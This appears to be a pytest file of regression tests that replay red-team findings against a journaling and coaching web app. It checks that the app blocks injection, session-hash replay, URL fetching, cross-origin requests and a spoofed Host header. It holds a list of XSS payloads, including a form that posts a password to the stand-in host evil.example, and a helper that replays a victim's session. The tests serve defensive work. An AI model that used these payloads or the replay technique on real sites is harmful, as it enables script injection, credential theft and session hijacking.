"""Issue 11's red-team findings, replayed in a real browser and over raw HTTP.

- Every injection payload is written where partner text appears (entry view, shared space,
  chat bubbles); Chromium records every request and every dialog: no remote request, no
  dialog, and Quick exit and Lock now still work after clicking all over the page.
- A replayed Gradio session hash, without the browser's cookie, opens nothing.
- `/file=<URL>` is refused; uploads are refused; cross-origin POSTs and foreign Host headers
  are refused; the page carries a Content-Security-Policy.
"""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from urllib.parse import urlparse

import pytest

from tests.browser.test_app import browser, create_profile, server  # noqa: F401  (fixtures)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = "evil.example"
PAYLOADS = [
    '<svg><a href="javascript:alert(1)"><rect width="9999" height="9999" fill="transparent"/></a></svg>',
    '<svg><a href="&#106;avascript:alert(2)"><text y="20">click</text></a></svg>',
    f"![x](http://{EVIL}/md.png)",
    f"![ref][r]\n\n[r]: http://{EVIL}/ref.png",
    f'<img src="http://{EVIL}/img.png">',
    f'<img srcset="http://{EVIL}/srcset.png 2x">',
    f'<picture><source srcset="http://{EVIL}/pic.png"><img></picture>',
    f'<audio autoplay src="http://{EVIL}/a.mp3"></audio>',
    f'<video poster="http://{EVIL}/poster.png"></video>',
    f'<table background="http://{EVIL}/bg.png"><tr><td>x</td></tr></table>',
    f"<div style=\"background:url('http://{EVIL}/style.png')\">styled</div>",
    f'<svg><image href="http://{EVIL}/svgimg.png"/></svg>',
    f'<form action="http://{EVIL}/steal"><input type="password" name="p"><button>Go</button></form>',
    '<img src=x onerror="alert(3)">',
    "<script>alert(4)</script>",
    "[click me](javascript:alert(5))",
    f'<iframe src="http://{EVIL}/frame"></iframe>',
    f'<link rel="stylesheet" href="http://{EVIL}/x.css">',
]
TEXT = "Evening note. " + " ".join(PAYLOADS)


def _ctx(browser):  # type: ignore[no-untyped-def]  # noqa: F811
    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    page = ctx.new_page()
    seen: dict[str, list[str]] = {"requests": [], "dialogs": []}
    page.on("request", lambda r: seen["requests"].append(r.url))

    def on_dialog(d):  # type: ignore[no-untyped-def]
        seen["dialogs"].append(d.message)
        d.dismiss()

    page.on("dialog", on_dialog)
    return ctx, page, seen


def _remote(urls: list[str]) -> set[str]:
    return {h for u in urls if (h := urlparse(u).hostname) and h not in ("127.0.0.1", "localhost")}


def test_partner_text_renders_as_text(server, browser) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    url, _ = server
    ctx, page, seen = _ctx(browser)
    page.goto(url)
    page.wait_for_selector("#coach-input textarea")
    page.get_by_role("tab", name="Journal").click()
    create_profile(page, "bea", "a long passphrase for bea")
    page.locator("#entry-text textarea").fill(TEXT)
    page.click("#save-entry")
    page.wait_for_function("document.querySelector('#journal-status').innerText.includes('Saved')", timeout=90000)
    view = page.locator("#entry-view")
    assert "javascript:alert(1)" in view.inner_text()  # shown as the characters typed
    assert view.locator("svg, img, a, form, iframe, audio, video, picture, script").count() == 0
    # Click all over the entry (the old full-screen SVG link turned any click into script).
    box = view.bounding_box()
    assert box is not None
    for fx, fy in ((0.1, 0.2), (0.5, 0.5), (0.9, 0.8)):
        page.mouse.click(box["x"] + box["width"] * fx, box["y"] + box["height"] * fy)
    # The chat echoes what a person typed too.
    page.get_by_role("tab", name="Coach").click()
    page.locator("#coach-input textarea").fill(TEXT[:1500])
    page.click("#coach-ask")
    page.wait_for_function(
        "document.querySelector('#coach-chat').innerText.includes('javascript:alert(1)')", timeout=90000
    )
    chat = page.locator("#coach-chat")
    assert chat.locator("svg a, img[src*='evil'], form, iframe, audio, video").count() == 0
    page.wait_for_timeout(1500)
    # Lock now still locks; Quick exit still exits.
    page.get_by_role("tab", name="Journal").click()
    page.click("#lock")
    page.wait_for_function("document.querySelector('#journal-status').innerText.includes('Locked')")
    assert "Evening note" not in page.locator("#entry-view").inner_text()
    page.click("#quick-exit")
    page.wait_for_function("document.body.innerText.includes('Weather')", timeout=10000)
    assert seen["dialogs"] == []
    assert _remote(seen["requests"]) == set(), _remote(seen["requests"])
    ctx.close()


def _join(url: str, payload: dict, cookie: str | None = None) -> str:
    headers = {"Content-Type": "application/json"}
    if cookie:
        headers["Cookie"] = cookie
    req = urllib.request.Request(url + "/gradio_api/queue/join", data=json.dumps(payload).encode(), headers=headers)
    with urllib.request.urlopen(req, timeout=30) as resp:
        event = json.loads(resp.read() or b"{}").get("event_id", "")
    req = urllib.request.Request(f"{url}/gradio_api/queue/data?session_hash={payload['session_hash']}",
                                 headers=headers)  # fmt: skip
    out = []
    deadline = time.time() + 60
    with urllib.request.urlopen(req, timeout=60) as resp:
        for raw in resp:
            line = raw.decode("utf-8", "replace")
            out.append(line)
            # The session's stream carries every job of that session hash (the victim's own
            # browser's too): read until this join's own job completes.
            if ('"process_completed"' in line and event in line) or time.time() > deadline:
                break
    return "".join(out)


def test_replayed_session_hash_opens_nothing(server, browser) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    url, _ = server
    ctx, page, _seen = _ctx(browser)
    joins: list[dict] = []
    page.on("request", lambda r: joins.append(json.loads(r.post_data)) if "/queue/join" in r.url else None)
    page.goto(url)
    page.wait_for_selector("#coach-input textarea")
    page.get_by_role("tab", name="Journal").click()
    create_profile(page, "cal", "a long passphrase for cal")
    page.locator("#entry-text textarea").fill("Private words about my week with Robin.")
    page.click("#save-entry")
    page.wait_for_function("document.querySelector('#journal-status').innerText.includes('Saved')", timeout=90000)
    page.get_by_role("tab", name="Insights").click()
    before = len(joins)
    page.click("#insights-btn")
    page.wait_for_function("document.querySelector('#insights-md').innerText.includes('entries')", timeout=30000)
    # The insights call: the victim's session hash and the handler's fn_index. Its output also
    # fires the reading list's change (one input, knowledge-base text only); the insights call is
    # the join with the two inputs (the unlocked profile and the region).
    victim = next(j for j in joins[before:] if len(j.get("data", [])) == 2)
    # Another client replays it: same session hash, same handler, no cookie.
    stolen = _join(url, {**victim, "trigger_id": victim.get("trigger_id")})
    assert "Private words" not in stolen
    assert "another browser" in stolen or "cookie" in stolen
    # With a forged cookie value it is refused too.
    stolen = _join(url, dict(victim), cookie="hearth_client=forged")
    assert "Private words" not in stolen and "another browser" in stolen
    ctx.close()


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=http://127.0.0.1:9/x",
        f"/gradio_api/file=https://{EVIL}/x",
        "/gradio_api/file=//127.0.0.1:9/x",
        "/file=http://127.0.0.1:9/x",
        "/gradio_api/file=HTTP://127.0.0.1:9/x",
    ],
)
def test_url_fetch_refused(server, path: str) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    url, _ = server
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(url + path, timeout=10)
    assert info.value.code == 403


def test_uploads_cross_origin_and_foreign_hosts_refused(server) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    url, _ = server
    up = urllib.request.Request(url + "/gradio_api/upload", data=b"--x--", method="POST",
                                headers={"Content-Type": "multipart/form-data; boundary=x"})  # fmt: skip
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(up, timeout=10)
    assert info.value.code == 403
    post = urllib.request.Request(url + "/gradio_api/queue/join", data=b"{}", method="POST",
                                  headers={"Origin": f"http://{EVIL}", "Content-Type": "application/json"})  # fmt: skip
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(post, timeout=10)
    assert info.value.code == 403
    rebound = urllib.request.Request(url + "/", headers={"Host": f"{EVIL}:{urlparse(url).port}"})
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(rebound, timeout=10)
    assert info.value.code == 421


def test_page_headers_and_cookie(server) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    url, _ = server
    with urllib.request.urlopen(url + "/", timeout=10) as resp:
        csp = resp.headers["Content-Security-Policy"]
        cookie = resp.headers["Set-Cookie"]
        page = resp.read().decode()
    assert "frame-ancestors 'none'" in csp and "form-action 'self'" in csp and "connect-src 'self'" in csp
    assert "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";", 1)[0]
    nonce = csp.split("'nonce-", 1)[1].split("'", 1)[0]
    assert page.count("<script") == page.count(f'<script nonce="{nonce}"')
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
